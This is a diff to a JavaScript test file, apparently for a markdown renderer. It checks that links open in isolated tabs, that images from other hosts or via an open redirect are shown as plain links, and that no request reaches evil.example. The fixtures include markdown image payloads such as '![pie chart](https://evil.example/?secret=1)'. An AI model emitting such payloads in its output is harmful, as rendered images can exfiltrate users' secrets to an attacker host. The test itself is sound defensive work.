@@ -369,14 +369,15 @@ const TESTS = {
     equal(globalThis.attacked, false);
   },
 
-  async "links to other sites open a tab that knows nothing of the page, and pictures of other sites are not loaded"() {
+  async "links to other sites open a tab that knows nothing of the page, and only pictures whose data is in the answer are shown"() {
     const element = await rendered(
-      "[other](https://other.example/a) [own](/own) [mail](mailto:a@b.example) ![pie chart](https://evil.example/?secret=1) ![](//evil.example/2) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=) [![in a link](https://evil.example/3)](https://other.example/b)",
+      "[other](https://other.example/a) [own](/own) [mail](mailto:a@b.example) ![pie chart](https://evil.example/?secret=1) ![](//evil.example/2) ![own picture](/redirect?to=evil.example) ![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=) [![in a link](https://evil.example/3)](https://other.example/b)",
     );
-    const [other, own, mail, picture] = element.querySelectorAll("a");
+    const [other, own, mail, picture, , ownPicture] = element.querySelectorAll("a");
     equal([other.target, other.rel, own.target, own.rel], ["_blank", "noopener noreferrer nofollow", "", "noopener noreferrer nofollow"]);
     equal(mail.getAttribute("href"), "mailto:a@b.example");
     equal([picture.textContent, picture.getAttribute("href")], ["Picture: pie chart", "https://evil.example/?secret=1"]);
+    equal([ownPicture.textContent, ownPicture.getAttribute("href")], ["Picture: own picture", "/redirect?to=evil.example"]);
     equal([...element.querySelectorAll("img")].map(({ src }) => src.slice(0, 14)), ["data:image/gif"]);
     const requests = performance.getEntriesByType("resource").filter(({ name }) => name.includes("evil.example"));
     equal(requests, []);
